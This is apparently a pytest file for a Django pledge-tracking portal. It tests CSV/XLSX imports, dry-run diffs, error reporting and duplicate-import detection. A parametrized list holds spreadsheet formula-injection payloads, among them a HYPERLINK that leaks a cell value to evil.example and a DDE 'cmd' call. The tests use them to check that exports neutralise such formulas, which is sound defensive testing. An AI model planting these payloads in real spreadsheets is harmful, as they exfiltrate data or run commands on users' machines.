"""Issue 15 item 4 and issue 10 item 5: imports that update by external reference, report every error of
every row at once with a diff in the dry run, are written once; and spreadsheets that cannot run code."""

import csv as csv_module
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from coalition import spreadsheets
from contributions import services
from contributions.models import Disbursement, ImportRecord, Pledge
from contributions.selectors import pledges_for
from contributions.tests.factories import FxRateFactory, MeetingFactory
from contributions.transfer import export_bytes, import_payments, import_pledges

pytestmark = pytest.mark.django_db
S = Pledge.Status
URL = "/c/itc/pledges/import/"


def csv(*rows):
    return ("\n".join(",".join(r) for r in rows) + "\n").encode()


PLEDGES = csv(
    ["external_reference", "donor", "amount", "currency", "announced_on", "status"],
    ["MOD-EE-1", "EE", "1500000.00", "EUR", "2024-02-02", "confirmed"],
    ["MOD-LU-1", "LU", "", "EUR", "2024-02-02", "announced"],
    ["MOD-DK-1", "DK", "250000.00", "DKK", "2024-04-09", "announced"],
)


def run(world, content, *, dry_run, fmt="csv", importer=import_pledges, **kwargs):
    return importer(
        actor=world.users.secretariat,
        coalition=world.coalition,
        content=content,
        fmt=fmt,
        dry_run=dry_run,
        **kwargs,
    )


def test_an_import_updates_the_pledges_its_references_name_and_the_dry_run_shows_the_diff(world):
    assert run(world, PLEDGES, dry_run=False).created == 3
    ee = Pledge.objects.get(external_reference="MOD-EE-1")
    services.pledge_confirm_figures(actor=world.users.delegate_ee, pledge=ee)
    changed = csv(
        ["external_reference", "donor", "amount", "currency", "announced_on", "status", "status_on"],
        ["MOD-EE-1", "EE", "1750000.00", "EUR", "2024-02-02", "committed", "2024-03-01"],
        ["MOD-LU-1", "LU", "", "EUR", "2024-02-02", "announced", ""],
        ["MOD-DK-1", "DK", "250000.00", "DKK", "2024-04-09", "", ""],
        ["MOD-LV-9", "LU", "100.00", "EUR", "2024-04-09", "", ""],
    )
    report = run(world, changed, dry_run=True)
    assert report.is_valid, [r.errors for r in report.rows]
    assert [r.action for r in report.rows] == ["changed", "unchanged", "unchanged", "created"]
    assert report.rows[0].changes == [
        ("amount", "1,500,000.00", "1,750,000.00"),
        ("status", "Confirmed", "Committed"),
    ]
    assert Pledge.objects.count() == 3 and Pledge.objects.get(pk=ee.pk).amount == Decimal("1500000.00")

    report = run(world, changed, dry_run=False)
    assert (report.created, report.changed, report.unchanged) == (1, 1, 2)
    ee.refresh_from_db()
    assert (ee.amount, ee.status, ee.committed_on) == (
        Decimal("1750000.00"),
        S.COMMITTED,
        datetime.date(2024, 3, 1),
    )
    assert ee.transitions.last().to_status == S.COMMITTED
    assert ee.review_status == Pledge.Review.NEEDS_REVIEW  # through the services: the review was reset
    assert Pledge.objects.count() == 4


def test_every_error_of_every_row_is_reported_at_once(world):
    """The issue's row: a bad kind and status `fulfilled` reported only the kind."""
    MeetingFactory(coalition=world.coalition, number=1)
    bad = csv(
        ["external_reference", "donor", "amount", "currency", "announced_on", "kind", "status", "meeting"],
        ["R1", "EE", "10", "EUR", "2024-02-02", "gift", "fulfilled", "1"],
        ["R2", "XX", "-5", "EURO", "2099-01-01", "", "", "9"],
        ["R1", "FR", "1.005", "EUR", "02/02/2024", "", "", ""],
    )
    report = run(world, bad, dry_run=True)
    columns = [[column for column, _m in row.errors] for row in report.rows]
    assert columns[0] == ["kind", "status"]
    assert sorted(columns[1]) == ["amount", "announced_on", "currency", "donor", "meeting"]
    assert sorted(columns[2]) == ["amount", "announced_on", "donor", "external_reference"]
    assert "fulfilled is reached later" in dict(report.rows[0].errors)["status"].lower()
    assert "line 2" in dict(report.rows[2].errors)["external_reference"]
    assert not Pledge.objects.exists()


def test_a_status_the_lifecycle_does_not_allow_is_an_error_of_that_row(world):
    run(world, PLEDGES, dry_run=False)
    backwards = csv(
        ["external_reference", "donor", "currency", "announced_on", "status"],
        ["MOD-EE-1", "EE", "EUR", "2024-02-02", "announced"],
    )
    report = run(world, backwards, dry_run=False)
    assert report.written == 0 and "cannot go to announced" in report.rows[0].errors[0][1]


def test_an_export_imported_again_changes_nothing(world):
    run(world, PLEDGES, dry_run=False)
    exported = export_bytes(pledges_for(world.users.secretariat, world.coalition), "xlsx")
    report = run(world, exported, dry_run=False, fmt="xlsx")
    assert (report.created, report.changed, report.unchanged) == (0, 0, 3), [r.errors for r in report.rows]


def test_payments_are_imported_and_updated_by_reference_in_any_currency(world):
    FxRateFactory(currency="USD", date=datetime.date(2024, 3, 1), rate=Decimal("1.0813"))
    run(world, PLEDGES, dry_run=False)
    payments = csv(
        ["pledge_reference", "external_reference", "amount", "currency", "paid_on", "reference"],
        ["MOD-EE-1", "BANK-1", "1081.30", "USD", "2024-03-04", "wire 1"],
        ["MOD-EE-1", "BANK-2", "500.00", "", "2024-03-04", "wire 2"],
    )
    report = run(world, payments, dry_run=False, importer=import_payments)
    assert report.created == 2, [r.errors for r in report.rows]
    assert Disbursement.objects.get(external_reference="BANK-1").amount_in_pledge_currency == Decimal(
        "1000.00"
    )
    corrected = csv(
        ["pledge_reference", "external_reference", "amount", "paid_on"],
        ["MOD-EE-1", "BANK-2", "600.00", "2024-03-04"],
        ["MOD-XX-1", "BANK-3", "1", "2024-03-04"],
    )
    report = run(world, corrected, dry_run=True, importer=import_payments)
    assert report.rows[0].action == "changed" and report.rows[0].changes[0][1:] == ("500.00", "600.00")
    assert report.rows[1].errors == [("pledge_reference", "No pledge of this coalition has this reference.")]


# Written once


def _check(client, content, name="pledges.csv"):
    response = client.post(URL, {"file": SimpleUploadedFile(name, content)})
    assert response.status_code == 200
    return response


def test_the_same_checked_file_is_written_once(world, page_client_for):
    """The issue: posting the same checked token again (a double click) created every pledge again."""
    client = page_client_for(world.users.secretariat)
    token = _check(client, PLEDGES).context["checked_token"]
    assert client.post(URL, {"checked": token}).status_code == 302
    second = client.post(URL, {"checked": token}, follow=True)
    assert "was imported on" in second.content.decode()
    assert Pledge.objects.count() == 3 and ImportRecord.objects.count() == 1


def test_a_file_already_imported_is_recognised_before_it_is_written_again(world, page_client_for):
    client = page_client_for(world.users.secretariat)
    client.post(URL, {"checked": _check(client, PLEDGES).context["checked_token"]})
    page = _check(client, PLEDGES, name="again.csv").content.decode()
    assert "This file was imported before" in page and "pledges.csv was imported on" in page
    record = ImportRecord.objects.get()
    assert (record.kind, record.created, record.imported_by) == ("pledges", 3, world.users.secretariat)


# Spreadsheets that cannot run code

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB",
    "\rCR",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_cell_is_flagged_on_import_and_neutralised_on_export(world, formula):
    services.pledge_create(
        actor=world.users.secretariat,
        coalition=world.coalition,
        donor=world.participants.ee,
        currency="EUR",
        announced_on=datetime.date(2024, 2, 2),
        purpose=formula,
    )
    pledges = pledges_for(world.users.secretariat, world.coalition)
    rows = list(csv_module.DictReader(io.StringIO(export_bytes(pledges, "csv").decode("utf-8-sig"))))
    assert rows[0]["purpose"] == "'" + formula
    sheet = openpyxl.load_workbook(io.BytesIO(export_bytes(pledges, "xlsx"))).active
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("purpose") + 1)
    assert cell.value == "'" + formula and cell.data_type == "s"  # text, not a formula
    out = io.StringIO()
    writer = csv_module.writer(out)
    writer.writerows([["donor", "currency", "announced_on", "purpose"], ["EE", "EUR", "2024-02-02", formula]])
    report = run(world, out.getvalue().encode(), dry_run=True)
    assert [column for column, _m in report.rows[0].warnings] == ["purpose"]
    # An export read back: the neutralising apostrophe is dropped, the text kept (and flagged).
    report = run(world, export_bytes(pledges, "csv"), dry_run=True)
    assert report.rows[0].warnings and report.is_valid


def test_numbers_dates_and_plain_text_are_exported_as_they_are():
    assert spreadsheets.neutralise(Decimal("-5.00")) == Decimal("-5.00")
    assert spreadsheets.neutralise(datetime.date(2024, 2, 2)) == datetime.date(2024, 2, 2)
    assert spreadsheets.neutralise("Secure radios - phase 2") == "Secure radios - phase 2"
    assert (
        spreadsheets.strip_neutralised("'=1+1") == "=1+1" and spreadsheets.strip_neutralised("'ok") == "'ok"
    )


def test_every_spreadsheet_export_of_the_portal_goes_through_the_neutraliser():
    """Find the exports: no module but coalition/spreadsheets.py may call tablib's export itself."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for path in root.glob("*/**/*.py")
        if ".venv" not in path.parts
        and "tests" not in path.parts
        and "scripts" not in path.parts  # the benchmark writes its own generated import file, not an export
        and path.name != "spreadsheets.py"
        and (
            '.export("csv")' in (source := path.read_text())
            or '.export("xlsx")' in source
            or "csv.writer" in source
        )
    ]
    assert offenders == []
